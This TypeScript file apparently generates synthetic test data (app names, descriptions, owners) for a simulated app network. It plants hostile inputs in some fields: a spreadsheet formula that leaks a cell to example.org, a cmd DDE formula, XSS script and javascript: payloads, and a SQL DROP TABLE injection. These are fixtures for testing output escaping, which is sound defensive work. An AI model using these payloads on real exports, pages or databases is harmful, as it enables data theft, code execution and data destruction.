/**
 * App names as the network allows them: letters and digits, since version 8 with inner hyphens; descriptions and owners as
 * people write them, some of which a careless exit would run.
 */
import { makeAddress } from '../chain/addresses.ts';
import { at, Random } from '../random.ts';
import { oddOwner } from './oddities.ts';
import type { App } from './app.ts';

const first = 'cloud block node open green fast lunar pixel iron data swift crypto orbit river solar north'.split(' ');
const second = 'Shop Vault Bot Hub Mail Stats Relay Board Search Wallet Mirror Proxy Forum Store Chat Feed'.split(' ');

/** `timeMs` = when the app was registered. Unique for different ids. */
export function nameOf(app: App, timeMs: number): string {
  if (app.product.prefix !== null) return `${app.product.prefix}${timeMs - (timeMs % 32_768) + (app.id % 32_768)}`;
  const random = new Random('name', app.id);
  const unique = app.id.toString(36);
  if (app.version === 8 && random.chance(0.2)) return `${random.pick(first)}-${random.pick(second)}-${unique}`;
  return `${random.pick(first)}${random.pick(second)}${unique}`;
}

/** Same letters, other case: a different app on the network. */
export function twinOf(name: string): string {
  return name === name.toUpperCase() ? name.toLowerCase() : name.toUpperCase();
}

const nasty = [
  '=HYPERLINK("http://example.org/?leak="&A1,"click")',
  '<script>alert(document.cookie)</script><img src=x onerror=alert(1)>',
  "+1+cmd|' /C calc'!A0",
  '@SUM(1+1)*"quoted", with, commas',
  'two\r\nlines\tand a tab',
  '[click](javascript:alert(1)) **bold** `code`',
  'right\u202eto left \u0000 null \ud83d\ude80 rocket',
  "'; DROP TABLE revenue_transactions; --",
  'x'.repeat(256)
];

export function descriptionOf(app: App): string {
  const isNasty = app.id % 17 === 3;
  return isNasty ? at(nasty, Math.floor(app.id / 17) % nasty.length) : `${app.product.prefix ?? 'A service'} on Flux`;
}

/** Identity of the owner, mostly Bitcoin-style; about 1,200 people own everything, a few of them are not polite. */
export function ownerOf(app: App): string {
  const random = new Random('owner', app.id);
  const person = Math.floor(1_200 * random.unit() ** 2);
  return random.chance(0.004)
    ? `=1+1<b title="${person}">`
    : (owners[person] ??= oddOwner(person) ?? makeAddress('bitcoin', 'owner', person));
}

const owners: string[] = [];
